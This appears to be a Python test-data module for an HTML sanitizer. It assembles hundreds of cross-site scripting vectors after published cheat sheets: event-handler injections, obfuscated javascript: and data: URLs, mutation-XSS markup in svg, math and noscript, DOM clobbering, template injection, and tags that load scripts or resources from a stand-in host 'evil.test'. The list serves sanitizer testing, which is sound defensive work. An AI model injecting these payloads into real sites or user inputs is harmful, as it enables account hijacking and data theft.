# ruff: noqa: E501 - one vector a line reads better than a wrapped one
"""Bodies that try to run a script or to load something, after the ideas of the published cheat sheets.

Each calls ran(), or loads an address with "evil" in it. Addresses with "shown" are what an article may show.
"""

_HANDLERS = [
    ("img src=x", "error"), ("img src=http://cdn.test/shown.png", "load"), ("svg", "load"), ("body", "load"), ("iframe", "load"),
    ("video src=x", "error"), ("audio src=x", "error"), ("video><source", "error"), ("input autofocus", "focus"),
    ("select autofocus", "focus"), ("textarea autofocus", "focus"), ("button autofocus", "focus"), ("details open", "toggle"),
    ("marquee", "start"), ("p tabindex=1", "focus"), ("p", "click"), ("p", "mouseover"), ("p", "pointerenter"), ("a href=#x", "click"),
    ("div style=animation-name:x", "animationstart"), ("div style=transition:1s", "transitionend"), ("form", "submit"),
    ("object data=x", "error"), ("embed src=x", "load"), ("link rel=stylesheet href=x", "error"), ("style", "load"),
    ("script src=x", "error"), ("table background=x", "load"), ("math", "click"), ("xss contenteditable", "blur"),
    ("dialog open", "close"), ("progress", "click"), ("meter", "mouseenter"), ("keygen autofocus", "focus"), ("isindex", "focus"),
    ("track", "error"), ("picture><img src=x", "error"), ("image src=x", "error"), ("frameset", "load"), ("bgsound", "load"),
    ("template", "click"), ("slot", "slotchange"), ("p popover id=z", "beforetoggle"), ("time", "copy"), ("del", "drag"),
]  # fmt: skip

_SCRIPT_URLS = [
    "javascript:ran()", "JaVaScRiPt:ran()", " javascript:ran()", "\tjavascript:ran()", "java\tscript:ran()", "java\nscript:ran()",
    "java\rscript:ran()", "\x01javascript:ran()", "\x00javascript:ran()", "javascript\t:ran()", "javascript&colon;ran()",
    "&#106;avascript:ran()", "&#x6a;avascript:ran()", "&#0000106avascript:ran()", "java&Tab;script:ran()", "java&NewLine;script:ran()",
    "javascript://%0aran()", "javascript:/*x*/ran()", "javascript:void(ran())", "vbscript:ran()", "livescript:ran()", "mocha:ran()",
    "data:text/html,<script>ran()</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>", "blob:http://site.test/evil", "feed:javascript:ran()",
    "view-source:javascript:ran()", "jar:javascript:ran()", "file:///etc/passwd", "about:blank", "\u3000javascript:ran()", "jav\u200bascript:ran()",
    "\ufeffjavascript:ran()", "https:javascript:ran()", "//javascript:ran()", "?javascript:ran()", "javascript:ran()//http://",
]  # fmt: skip

_PLACES = [
    '<a href="{}">x</a>', "<a href='{}'>x</a>", '<iframe src="{}"></iframe>', '<img src="{}">', '<form action="{}"><input type=submit></form>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
]  # fmt: skip

_MARKUP = [
    "<script>ran()</script>", "<SCRIPT>ran()</SCRIPT>", "<script src=http://evil.test/evil.js></script>", "<script/x>ran()</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>", "<<script>ran()//<</script>", "<script>ran()", "</script><script>ran()</script>",
    "<script\x00>ran()</script>", "<script\x0c>ran()</script>", "\"><script>ran()</script>", "'><script>ran()</script>", "--><script>ran()</script>",
    "<!--><script>ran()</script>", "<!--> --!><script>ran()</script>", "<!-- --!><img src=x onerror=ran()> -->", "<!--[if IE]><script>ran()</script><![endif]-->",
    "<![CDATA[<script>ran()</script>]]>", "<?xml-stylesheet href=\"javascript:ran()\"?>", "<!DOCTYPE x [<!ENTITY y \"<script>ran()</script>\">]>&y;",
    "<svg><script>ran()</script></svg>", "<svg><script href=data:,ran()></script>", "<svg><script>&#114;an()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=ran()>", "<svg><use href=data:image/svg+xml,x>",
    "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>", "<svg><style><img src=x onerror=ran()></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=ran()>\"></svg>", "<svg><title><img src=x onerror=ran()></title></svg>",
    "<svg><desc><template><img src=x onerror=ran()></template></desc></svg>", "<svg><image href=http://evil.test/evil.png></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran()&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=ran()></style></annotation-xml></math>",
    "<math><mi//xlink:href=\"data:x,<script>ran()</script>\">", "<math href=\"javascript:ran()\">x</math>", "<math><maction actiontype=statusline xlink:href=javascript:ran()>x",
    "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">", "<noscript><style></noscript><img src=x onerror=ran()></style>",
    "<style><style/><img src=x onerror=ran()>", "<xmp><img src=\"</xmp><img src=x onerror=ran()>\">", "<noembed><img src=\"</noembed><img src=x onerror=ran()>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=ran()>\">", "<textarea><img title=\"</textarea><img src=x onerror=ran()>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=ran()>\"></title>", "<iframe><img title=\"</iframe><img src=x onerror=ran()>\"></iframe>",
    "<plaintext><img src=x onerror=ran()>", "<listing>&lt;img src=x onerror=ran()&gt;</listing>", "<select><style></select><img src=x onerror=ran()></style>",
    "<select><template><img src=x onerror=ran()></template></select>", "<table><td background=javascript:ran()>x</table>", "<template><script>ran()</script></template>",
    "<p title=\"&lt;/p&gt;&lt;img src=x onerror=ran()&gt;\">x</p>", "<img alt=\"`><img src=x onerror=ran()>\">", "<img src=`x` onerror=`ran()`>",
    "<img src=x:x onerror\n=\nran()>", "<img/src=x/onerror=ran()>", "<img src=x onerror=ran()//", "<img src=x one\x00rror=ran()>", "<img src=x \x0bonerror=ran()>",
    "<img src=x ONERROR=ran()>", "<img src=x onerror&#61;ran()>", "<img src=\"x\"onerror=ran()>", "<img title=\"a'b\"c onerror=ran()>", "<a/onmouseover=ran()>x</a>",
    "<a href=\"#\" title='href=\"x\" onmouseover=ran() y'>x</a>", "<a title=\"href=x onmouseover=ran() y\" href=http://a.test/>x</a>",
    "<p style=\"background:url(http://evil.test/evil.png)\">x</p>", "<p style=\"width:expression(ran())\">x</p>", "<p style=\"width:1px;background:url('http://evil.test/evil')\">x</p>",
    "<p style=\"-moz-binding:url(http://evil.test/evil.xml#x)\">x</p>", "<p style='width:10px}*{background:url(http://evil.test/evil)'>x</p>",
    "<style>@import 'http://evil.test/evil.css';</style>", "<style>*{background:url(http://evil.test/evil)}</style>", "<link rel=stylesheet href=http://evil.test/evil.css>",
    "<link rel=prefetch href=http://evil.test/evil>", "<link rel=dns-prefetch href=//evil.test>", "<link rel=import href=http://evil.test/evil.html>",
    "<link rel=preload as=image href=http://evil.test/evil.png>", "<meta http-equiv=refresh content=\"0;url=http://evil.test/evil\">",
    "<meta http-equiv=refresh content=\"0;javascript:ran()\">", "<meta http-equiv=Link content='<http://evil.test/evil.css>; rel=stylesheet'>", "<base href=http://evil.test/evil/><img src=shown.png>",
    "<object data=http://evil.test/evil.html></object>", "<object type=image/svg+xml data=http://evil.test/evil.svg></object>", "<embed src=http://evil.test/evil.swf>", "<applet code=http://evil.test/evil></applet>",
    "<iframe src=http://evil.test/evil.html></iframe>", "<iframe srcdoc=\"<script>parent.ran()</script>\"></iframe>", "<frameset><frame src=http://evil.test/evil></frameset>",
    "<portal src=http://evil.test/evil></portal>", "<fencedframe src=http://evil.test/evil></fencedframe>", "<video autoplay src=http://evil.test/evil.mp4></video>", "<audio autoplay src=http://evil.test/evil.mp3></audio>",
    "<video preload=auto><source src=http://evil.test/evil.webm type=video/webm></video>", "<video><track default src=http://evil.test/evil.vtt></video>", "<input type=image src=http://evil.test/evil.png>",
    "<button formaction=javascript:ran()>x</button>", "<form id=x></form><button form=x formaction=javascript:ran()>x</button>", "<isindex action=javascript:ran() type=image>",
    "<body background=http://evil.test/evil.png>", "<table background=http://evil.test/evil.png><tr><td>x</table>", "<a ping=http://evil.test/evil href=http://a.test/>x</a>", "<a href=http://a.test/ attributionsrc=http://evil.test/evil>x</a>",
    "<img src=http://cdn.test/shown.png attributionsrc=http://evil.test/evil>", "<img src=http://cdn.test/shown.png lowsrc=http://evil.test/evil dynsrc=http://evil.test/evil longdesc=http://evil.test/evil>",
    "<img src=http://cdn.test/shown.png usemap=#m><map name=m><area href=javascript:ran() shape=default></map>", "<picture><source srcset=http://evil.test/evil.png><img src=http://cdn.test/shown.png></picture>",
    "<form name=body><input name=innerHTML></form>", "<form id=document></form><img name=getElementById src=http://cdn.test/shown.png>", "<a id=location href=http://evil.test/>x</a>", "<a id=defaultView></a><a id=defaultView name=x>",
    "<img name=currentScript src=http://cdn.test/shown.png><img id=cookie src=http://cdn.test/shown.png>", "<p id=ran>x</p><p id=config>y</p><p name=alert>z</p>", "<div id=__proto__></div><div id=constructor></div>",
    "</div></div></article></main></body></html><script>ran()</script>", "</p></article><img src=x onerror=ran()>", "<p><b><i><u></p></i></b></u><img src=x onerror=ran()>", "<table><a onclick=ran()><tr><td></a><img src=x onerror=ran()>",
    "<a><table><a href=javascript:ran()>x</a></table></a>", "<b><form><b><form><img src=x onerror=ran()>", "<div><p><table><p onclick=ran()>x</table>", "<p><button><p onclick=ran()>x", "<ruby><rt><script>ran()</script>",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-", "\u00bcscript\u00beran()\u00bc/script\u00be", "<\uff53cript>ran()</\uff53cript>", "&lt;script&gt;ran()&lt;/script&gt;", "&amp;lt;script&amp;gt;ran()", "%3Cscript%3Eran()%3C/script%3E",
    "<p contenteditable onbeforeinput=ran() autofocus tabindex=0 onfocus=ran()>x", "<p accesskey=x onclick=ran()>x</p>", "<x onclick=ran()>x</x>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">ran()</x:script>", "<a is=x-y href=x data-onclick=ran() v-on:click=ran() @click=ran() :href=ran() ng-click=ran() x-on:click=ran() hx-get=http://evil.test/evil>x</a>",
    "{{constructor.constructor('ran()')()}}", "<div ng-app>{{7*7}}</div>", "<div data-toggle=modal data-target='<img src=x onerror=ran()>' class='modal show'>x</div>", "<p slot=x is=y part=z exportparts=q nonce=r>x</p>",
    "<img srcset='javascript:ran() 1x, http://cdn.test/shown.png 2x'>", "<img src=http://cdn.test/shown.png sizes='x\" onerror=\"ran()'>", "<img src=http://cdn.test/shown.png alt='\" onload=\"ran()'>", "<p lang='\" onclick=\"ran()'>x</p>",
    "<p class='wp-caption\" onclick=\"ran()'>x</p>", "<p id='attachment_1\" onclick=\"ran()'>x</p>", "<td colspan='1\" onclick=\"ran()'>x</td>", "<time datetime='x\" onclick=\"ran()'>x</time>", "<ol start='1\" onclick=\"ran()' type='1\" x'>x</ol>",
]  # fmt: skip

VECTORS = (
    [f"<{tag} on{event}=ran()>x" for tag, event in _HANDLERS]
    + [place.format(url) for place in _PLACES[:2] for url in _SCRIPT_URLS]
    + [place.format(url) for place in _PLACES[2:] for url in _SCRIPT_URLS[::4]]
    + _MARKUP
)
